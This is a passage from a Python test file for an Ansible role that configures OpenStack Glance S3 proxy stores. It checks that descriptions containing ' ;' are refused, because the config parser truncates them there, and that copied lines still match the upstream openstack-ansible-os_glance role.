    assert 'glance_s3_proxy_stores[0].description contains a ";" after whitespace' in proc.stdout, proc.stdout
    assert value not in proc.stdout
    assert not site.own_file.exists()


def test_control_config_template_cuts_a_value_at_whitespace_and_semicolon(site):
    """Why the role refuses it: the same file with the value written anyway loses everything from ' ;'."""
    site.write_role_vars([dict(FAST, description='secret ~comment')])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout
    site.own_file.write_text(site.own_file.read_text().replace('secret ~comment', 'secret ;comment'))
    _seen, conf = site.run_osa()
    assert oslo_read(conf, [('fast', 'store_description')])[('fast', 'store_description')] == 'secret'


def test_os_glance_lines_match_upstream():
    """With OS_GLANCE_SRC (a checkout of openstack-ansible-os_glance): the lines copied here are still upstream's."""
    src = os.environ.get('OS_GLANCE_SRC')
    if not src:
        pytest.skip('set OS_GLANCE_SRC to a checkout of openstack-ansible-os_glance')
    ours = '[DEFAULT]\n' + OS_GLANCE_TEMPLATE_DEFAULT + '\n' + OS_GLANCE_TEMPLATE_STORES
    assert os_glance_template().rstrip('\n') == ours.rstrip('\n')
    with open(os.path.join(src, 'vars', 'main.yml')) as f:
        assert OS_GLANCE_VARS in f.read()
    with open(os.path.join(src, 'defaults', 'main.yml')) as f:
        defaults = f.read()
    for block in OS_GLANCE_DEFAULTS.split('glance_pip_packages:', maxsplit=1)[0].split('\n'):
        assert block in defaults, block
